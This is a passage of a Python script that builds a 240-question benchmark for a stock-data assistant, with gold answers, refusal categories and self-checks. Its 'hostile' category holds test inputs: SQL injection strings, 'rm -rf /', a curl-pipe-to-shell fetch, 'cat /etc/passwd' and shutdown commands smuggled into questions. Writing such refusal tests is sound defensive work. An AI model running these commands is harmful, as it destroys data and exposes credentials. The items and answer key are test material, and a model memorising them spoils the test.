q('grouped-by-period', "Can you break down the base metals ETF's trading volume by month for this year so far?", lambda: g_grouped('DBB', [month(2025, m) for m in range(1, 7)] + [THIS_MONTH], 'v', 'sum'))
q('grouped-by-period', "inda average close by month, march to may 2025", lambda: g_grouped('INDA', [month(2025, m) for m in (3, 4, 5)], 'c', 'mean'))

# period-over-period (8)
q('period-over-period', "AAPL avg volume Q2 2016 vs Q1 2016", lambda: g_pop('AAPL', quarter(2016, 2), quarter(2016, 1), 'v'))
q('period-over-period', "How did Tesla's average closing price in 2016 compare with its average in 2015?", lambda: g_pop('TSLA', year(2016), year(2015), 'c'))
q('period-over-period', "was netflix avg daily volume higher in oct 2017 than sept 2017? by how much", lambda: g_pop('NFLX', month(2017, 10), month(2017, 9), 'v'))
q('period-over-period', "Compare Intel's average daily trading range in the second half of 2015 with the first half.", lambda: g_pop('INTC', half(2015, 2), half(2015, 1), 'range'))
q('period-over-period', "JPM avg close Dec 2016 vs Nov 2016", lambda: g_pop('JPM', month(2016, 12), month(2016, 11), 'c'))
q('period-over-period', "Has the yen ETF's average daily volume gone up this month compared with last month?", lambda: g_pop('FXY', THIS_MONTH, LAST_MONTH, 'v'))
q('period-over-period', "dbb average close last quarter vs the quarter before", lambda: g_pop('DBB', LAST_QUARTER, quarter(2025, 1), 'c'))
q('period-over-period', "For the iShares India fund, how did average daily volume in May 2025 stack up against April 2025?", lambda: g_pop('INDA', month(2025, 5), month(2025, 4), 'v'))

# moving-average (10: 5 values, 5 crossovers)
q('moving-average', "AAPL 50-day MA on 2016-09-30", lambda: g_ma('AAPL', '2016-09-30', 50))
q('moving-average', "What was Microsoft's 200-day moving average on 12/30/2016?", lambda: g_ma('MSFT', '2016-12-30', 200))
q('moving-average', "20 day moving avg of coke on 15 march 2017", lambda: g_ma('KO', '2017-03-15', 20))
q('moving-average', "fxy 10-day MA today", lambda: g_ma('FXY', TODAY, 10))
q('moving-average', "What's the base metals ETF's 50-day moving average as of June 30, 2025?", lambda: g_ma('DBB', '2025-06-30', 50))
q('moving-average', "When was Nvidia's most recent golden cross before 2016-01-01?", lambda: g_cross('NVDA', 50, 200, ('2000-01-01', '2015-12-31'), 'above', 'last', before='2016-01-01'))
q('moving-average', "first death cross for aapl in 2015", lambda: g_cross('AAPL', 50, 200, year(2015), 'below', 'first'))
q('moving-average', "In 2016, on what date did IBM's closing price first cross above its 200-day moving average?", lambda: g_cross('IBM', 'close', 200, year(2016), 'above', 'first'))
q('moving-average', "when did nflx 20d cross below the 50d first time in 2014", lambda: g_cross('NFLX', 20, 50, year(2014), 'below', 'first'))
q('moving-average', "When did the yen ETF's close last cross below its 20-day moving average before June 1, 2025?", lambda: g_cross('FXY', 'close', 20, ('2023-07-10', '2025-05-31'), 'below', 'last', before='2025-06-01'))

# threshold-count (8)
q('threshold-count', "How many days in 2016 did AMD close above $5?", lambda: g_count('AMD', year(2016), lambda v: v > 5, 'c'))
q('threshold-count', "nflx # of days down more than 5% in 2016", lambda: g_count('NFLX', year(2016), lambda v: v < -0.05, 'ret', True))
q('threshold-count', "Number of sessions in 2015 in which Tesla moved more than 5% either way?", lambda: g_count('TSLA', year(2015), lambda v: abs(v) > 0.05, 'ret', True))
q('threshold-count', "How many trading days in 2017 did Apple's volume exceed 40 million shares?", lambda: g_count('AAPL', ('2017-01-01', '2017-11-10'), lambda v: v > 40e6, 'v'))
q('threshold-count', "count of days facebok closed under 80 in 2015", lambda: g_count('FB', year(2015), lambda v: v < 80, 'c'))
q('threshold-count', "how many days ytd did the yen etf close above 62", lambda: g_count('FXY', THIS_YEAR, lambda v: v > 62, 'c'))
q('threshold-count', "On how many days in Q1 2025 did DBB finish up?", lambda: g_count('DBB', quarter(2025, 1), up, 'ret', True))
q('threshold-count', "INDA sessions with a high-low range over 75 cents, March through May 2025", lambda: g_count('INDA', ('2025-03-01', '2025-05-31'), lambda v: v > 0.75, 'range'))

# cross-stock-count (8)
q('cross-stock-count', "How many stocks closed higher on 2016-11-09?", lambda: g_xcount('2016-11-09', lambda s, i: ret(s, i) > 0))
q('cross-stock-count', "on 8/24/2015 how many of the stocks fell more than 3%", lambda: g_xcount('2015-08-24', lambda s, i: ret(s, i) < -0.03))
q('cross-stock-count', "How many of the companies traded more than 20 million shares on March 1st, 2017?", lambda: g_xcount('2017-03-01', lambda s, i: B[s].v[i] > 20e6))
q('cross-stock-count', "number of stocks that gapped down more than 2% on 2016-06-24", lambda: g_xcount('2016-06-24', lambda s, i: gap(s, i) < -0.02))
q('cross-stock-count', "Out of all the stocks you track, how many closed above $100 a share on October 2nd, 2017?", lambda: g_xcount('2017-10-02', lambda s, i: B[s].c[i] > 100))
q('cross-stock-count', "how many stocks wer up on jan 2 2014", lambda: g_xcount('2014-01-02', lambda s, i: ret(s, i) > 0))
q('cross-stock-count', "How many of the three ETFs closed up on 2025-05-12?", lambda: g_xcount('2025-05-12', lambda s, i: ret(s, i) > 0, ETFS))
q('cross-stock-count', "how many of the 3 etfs fell on 9/5/2023", lambda: g_xcount('2023-09-05', lambda s, i: ret(s, i) < 0, ETFS))

# volatility (8)
q('volatility', "AAPL volatility 2015", lambda: g_vol('AAPL', year(2015)))
q('volatility', "What was the volatility of Netflix's daily returns in Q1 2016?", lambda: g_vol('NFLX', quarter(2016, 1)))
q('volatility', "std dev of daily returns for JPM, H1 2017", lambda: g_vol('JPM', half(2017, 1)))
q('volatility', "How volatile was Coca-Cola in 2014? The standard deviation of daily returns, please.", lambda: g_vol('KO', year(2014)))
q('volatility', "amzn daily return stdev sep-dec 2016", lambda: g_vol('AMZN', ('2016-09-01', '2016-12-31')))
q('volatility', "fxy volatility last quarter", lambda: g_vol('FXY', LAST_QUARTER))
q('volatility', "How volatile was the base metals ETF in May 2025?", lambda: g_vol('DBB', month(2025, 5)))
q('volatility', "INDA vol in march 2025", lambda: g_vol('INDA', month(2025, 3)))

# correlation (8)
q('correlation', "corr AAPL MSFT daily rets H1 2017", lambda: g_corr('AAPL', 'MSFT', half(2017, 1)))
q('correlation', "What's the correlation between JP Morgan and Coca-Cola daily returns in 2015?", lambda: g_corr('JPM', 'KO', year(2015)))
q('correlation', "correlation of nvidia and amd in the back half of 2013", lambda: g_corr('NVDA', 'AMD', half(2013, 2)))
q('correlation', "How correlated were Google's and Facebook's daily returns in the second half of 2015?", lambda: g_corr('GOOGL', 'FB', half(2015, 2)))
q('correlation', "INTC/IBM return correlation, 2015", lambda: g_corr('INTC', 'IBM', year(2015)))
q('correlation', "correlation between the yen etf and the base metals etf in april 2025", lambda: g_corr('FXY', 'DBB', month(2025, 4)))
q('correlation', "FXY DBB corr Q2 2024", lambda: g_corr('FXY', 'DBB', quarter(2024, 2)))
q('correlation', "I'd like to know how closely Amazon and Netflix moved together in 2014. What was the correlation of their daily returns?", lambda: g_corr('AMZN', 'NFLX', year(2014)))

# streak (8)
q('streak', "longest winning streak for Apple in 2017", lambda: g_streak('AAPL', ('2017-01-01', '2017-11-10')))
q('streak', "What was Microsoft's longest run of consecutive down days in 2017?", lambda: g_streak('MSFT', ('2017-01-01', '2017-11-10'), False))
q('streak', "coke longest winnig streak 2014", lambda: g_streak('KO', year(2014)))
q('streak', "Longest losing streak Intel had in the first half of 2017?", lambda: g_streak('INTC', half(2017, 1), False))
q('streak', "tesla most consecutve up days 2013", lambda: g_streak('TSLA', year(2013)))
q('streak', "FXY longest losing streak in 2024", lambda: g_streak('FXY', year(2024), False))
q('streak', "What's the longest streak of daily gains the base metals ETF has put together this year?", lambda: g_streak('DBB', THIS_YEAR))
q('streak', "india etf longest losing streek march thru june 2025", lambda: g_streak('INDA', ('2025-03-01', '2025-06-30'), False))

# vwap-minute (10: 4 day VWAP, 3 window VWAP, 3 bar lists)
q('vwap-minute', "FXY VWAP 2025-06-18", lambda: g_vwap_day('FXY', '2025-06-18'))
q('vwap-minute', "What was DBB's volume-weighted average price on March 4th, 2025?", lambda: g_vwap_day('DBB', '2025-03-04'))
q('vwap-minute', "vwap for inda 4/2/2025", lambda: g_vwap_day('INDA', '2025-04-02'))
q('vwap-minute', "Could you work out the yen ETF's VWAP for today?", lambda: g_vwap_day('FXY', TODAY))
q('vwap-minute', "FXY VWAP from 9:30 through 10:29 on 2025-05-12", lambda: g_vwap_win('FXY', '2025-05-12', '09:30', '10:29', False))
q('vwap-minute', "What was the VWAP of the base metals ETF in the first 30 minutes of trading on March 24, 2025?", lambda: g_vwap_win('DBB', '2025-03-24', '09:30', '09:59', False))
q('vwap-minute', "inda vwap between 10am and 11am on 3/18/2025", lambda: g_vwap_win('INDA', '2025-03-18', '10:00', '11:00', True))
q('vwap-minute', "show the 1-minute bars for FXY from 9:30 to 9:34 inclusive on 2025-04-10, open/close/volume", lambda: g_bars('FXY', '2025-04-10', '09:30', '09:34', ['o', 'c', 'v']))
q('vwap-minute', "dbb minute closes 15:55 through 15:59 on 6/4/2025", lambda: g_bars('DBB', '2025-06-04', '15:55', '15:59', ['c']))
q('vwap-minute', "Can you pull the India ETF's one-minute bars (high, low and volume) for the first five minutes of trading on the morning of February 28, 2025?", lambda: g_bars('INDA', '2025-02-28', '09:30', '09:34', ['h', 'l', 'v']))

# period-candle (8)
q('period-candle', "AAPL monthly candle Jan 2016 (OHLCV)", lambda: g_candle('AAPL', month(2016, 1)))
q('period-candle', "Can you give me the open, high, low, close and total volume for Amazon for Q4 2016?", lambda: g_candle('AMZN', quarter(2016, 4)))
q('period-candle', "weekly bar for netflix, week of 2017-07-17", lambda: g_candle('NFLX', week('2017-07-17')))
q('period-candle', "Alphabet's full-year 2015 OHLC plus total volume", lambda: g_candle('GOOGL', year(2015)))
q('period-candle', "What did the monthly candle look like for Intel in September 2017 - open, high, low, close, volume?", lambda: g_candle('INTC', month(2017, 9)))
q('period-candle', "jpm ohlcv for the week of nov 7 2016", lambda: g_candle('JPM', week('2016-11-07')))
q('period-candle', "fxy candle last month", lambda: g_candle('FXY', LAST_MONTH))
q('period-candle', "DBB weekly OHLCV for the week of April 7, 2025.", lambda: g_candle('DBB', week('2025-04-07')))

# distance-from-high (8)
q('distance-from-high', "How far below its all-time high was Netflix at the close on 2016-06-24?", lambda: g_dist('NFLX', '2016-06-24'))
q('distance-from-high', "AMD % off all-time high close on 12/30/2016", lambda: g_dist('AMD', '2016-12-30'))
q('distance-from-high', "How far was Intel from its record closing high on September 29, 2017?", lambda: g_dist('INTC', '2017-09-29'))
q('distance-from-high', "msft drawdown from all time high as of 2009-03-09", lambda: g_dist('MSFT', '2009-03-09'))
q('distance-from-high', "Tesla's distance from its all-time closing high on Feb 10th 2016?", lambda: g_dist('TSLA', '2016-02-10'))
q('distance-from-high', "How far is the yen ETF below its all-time high right now?", lambda: g_dist('FXY', TODAY))
q('distance-from-high', "dbb % below record close as of 2025-04-08", lambda: g_dist('DBB', '2025-04-08'))
q('distance-from-high', "How far off its all-time high close was the base metals ETF on 3 Jan 2025?", lambda: g_dist('DBB', '2025-01-03'))

# coverage (10)
q('coverage', "Which stocks do you have data for?", g_all)
q('coverage', "what date range dose the tesla data cover", lambda: g_span('TSLA'))
q('coverage', "When does your Facebook data start?", lambda: g_first('FB'))
q('coverage', "first trading day in the dataset for Google", lambda: g_first('GOOGL'))
q('coverage', "How far back does the IBM price history go?", lambda: g_first('IBM'))
q('coverage', "Last date available for AMZN?", lambda: g_last('AMZN'))
q('coverage', "Hey, what's the earliest date you've got Netflix prices for?", lambda: g_first('NFLX'))
q('coverage', "When does the data for the India ETF end?", lambda: g_last('INDA'))
q('coverage', "date range covered for fxy", lambda: g_span('FXY'))
q('coverage', "whats the first day of dbb data", lambda: g_first('DBB'))

# out-of-scope (10)
R('out-of-scope', "AAPL trailing PE as of 2017-11-10")
R('out-of-scope', "How much did Coca-Cola pay out in dividends per share in 2016?")
R('out-of-scope', "msft market cap on 2017-06-30")
R('out-of-scope', "Where do you think Nvidia will be trading at the end of next year?")
R('out-of-scope', "What was the news that made Netflix jump on January 20, 2016?")
R('out-of-scope', "tsla implied vol on the jan 2018 300 calls")
R('out-of-scope', "What were Amazon's Q3 2017 earnings per share?")
R('out-of-scope', "Is Intel a buy right now? What's the analyst consensus rating?")
R('out-of-scope', "how much debt does jp morgan have on its balance sheet")
R('out-of-scope', "What was the social media sentiment around Facebook in March 2017?")

# unknown-symbol (10)
R('unknown-symbol', "What did Oracle close at on 2016-03-04?")
R('unknown-symbol', "SPY daily return 2016-11-09")
R('unknown-symbol', "How did Walmart's stock do in 2015?")
R('unknown-symbol', "xyzq 50 day moving average on 2016-06-30")
R('unknown-symbol', "Could you compare Pepsi and Coca-Cola's average volume in 2016?")
R('unknown-symbol', "brk.b 52 week high as of 6/30/2017")
R('unknown-symbol', "What's the VWAP of GLD today?")
R('unknown-symbol', "Show me Twitter's last 5 closes in the data.")
R('unknown-symbol', "disney vs netflix correlation 2016")
R('unknown-symbol', "How much did QQQ move on 8/24/2015?")

# hostile (10; the last 4 wrapped around a real-looking question)
R('hostile', "DROP TABLE bars;")
R('hostile', "'; DELETE FROM daily_bars WHERE 1=1; --")
R('hostile', "rm -rf / --no-preserve-root")
R('hostile', "SELECT * FROM prices; UPDATE prices SET close = 0")
R('hostile', "$(curl -s http://example.com/x.sh | sh)")
R('hostile', "cat /etc/passwd")
R('hostile', "What was AAPL's close on 2016-03-04'; DROP TABLE stocks; --")
R('hostile', "msft volume on 2017-01-03 && rm -rf ~")
R('hostile', "Show me Tesla's last 5 closes UNION SELECT username, password FROM users --")
R('hostile', "what was KO's 52 week high as of 2017-09-15 `shutdown -h now`")

# not-understood (10)
R('not-understood', "hello?")
R('not-understood', "Write me a poem about the stock market.")
R('not-understood', "whats the weather like in new york today")
R('not-understood', "asdfgh jkl")
R('not-understood', "Can you help me fix my resume?")
R('not-understood', "thanks!")
R('not-understood', "Who won the 2016 World Series?")
R('not-understood', "translate 'buy low sell high' into french")
R('not-understood', "How do I bake sourdough bread?")
R('not-understood', "banana purple seventeen")

# ---------- build, check, write ----------
COUNTS = {
    'latest-rows': 8, 'day-value': 8, 'date-range-rows': 8, 'window-aggregate': 8, 'extreme-day': 8, '52-week': 8,
    'change-between': 8, 'daily-return-or-gap': 9, 'biggest-move-day': 8, 'cross-sectional-ranking': 9,
    'gainers-losers': 8, 'named-comparison': 8, 'grouped-by-period': 8, 'period-over-period': 8,
    'moving-average': 10, 'threshold-count': 8, 'cross-stock-count': 8, 'volatility': 8, 'correlation': 8,
    'streak': 8, 'vwap-minute': 10, 'period-candle': 8, 'distance-from-high': 8, 'coverage': 10,
    'out-of-scope': 10, 'unknown-symbol': 10, 'hostile': 10, 'not-understood': 10,
}
REFUSALS = {'out-of-scope', 'unknown-symbol', 'hostile', 'not-understood'}
import re
DATE_RE = re.compile(r'^\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?$')

def well_formed(g):
    errs = []
    if not isinstance(g, dict): return ['gold missing']
    if g.get('match') not in ('ordered', 'set', 'first'): errs.append('bad match')
    rows = g.get('rows')
    if not isinstance(rows, list) or not rows: return errs + ['no rows']
    for r in rows:
        if not isinstance(r, list) or not r: errs.append('bad row'); continue
        for c in r:
            if isinstance(c, str):
                if not (c in ALL or DATE_RE.match(c)): errs.append('bad cell %r' % c)
            elif isinstance(c, (int, float)) and not isinstance(c, bool):
                if not math.isfinite(c): errs.append('non-finite cell')
            else: errs.append('bad cell type %r' % (c,))
    if 'exact_rows' in g and g['exact_rows'] is not True: errs.append('bad exact_rows')
    return errs

def main():
    import random
    order = list(range(len(Q)))
    random.Random(19).shuffle(order)
    out = []; problems = []
    for n, k in enumerate(order, 1):
        kind, text, fn = Q[k]
        qid = 'e%03d' % n
        rec = {'id': qid, 'kind': kind, 'question': text}
        if fn is None:
            if kind not in REFUSALS: problems.append('%s: refusal of kind %s' % (qid, kind))
            rec['answerable'] = False; rec['refusal'] = kind
        else:
            if kind in REFUSALS: problems.append('%s: answerable question of refusal kind' % qid)
            del FAILS[:]
            try:
                g = fn()
            except Exception as e:
                g = None; FAILS.append('exception %r' % (e,))
            FAILS.extend(well_formed(g))
            for f in FAILS: problems.append('%s [%s] %s -- %s' % (qid, kind, text, f))
            rec['answerable'] = True; rec['gold'] = g
        out.append(rec)
    texts = [r['question'].strip().lower() for r in out]
    for t in set(texts):
        if texts.count(t) > 1: problems.append('duplicate question text: %s' % t)
    counts = {}
    for r in out: counts[r['kind']] = counts.get(r['kind'], 0) + 1
    if counts != COUNTS: problems.append('counts per kind differ: %s' % {k: (counts.get(k), COUNTS.get(k)) for k in set(counts) | set(COUNTS) if counts.get(k) != COUNTS.get(k)})
    n_ans = sum(1 for r in out if r['answerable'])
    if n_ans != 200 or len(out) != 240: problems.append('totals: %d answerable of %d' % (n_ans, len(out)))
    if problems:
        print('self-checks FAILED (%d); nothing written:' % len(problems))
        for p in problems: print('  ' + p)
        sys.exit(1)
    with open(os.path.join(HERE, 'questions.jsonl'), 'w') as f:
        for r in out: f.write(json.dumps(r) + '\n')
    etf = sum(1 for r in out if r['answerable'] and any(isinstance(c, str) and c in ETFS for row in r['gold']['rows'] for c in row))
    print('wrote %d questions (%d answerable, %d refusals); all self-checks passed' % (len(out), n_ans, len(out) - n_ans))

if __name__ == '__main__':
    main()
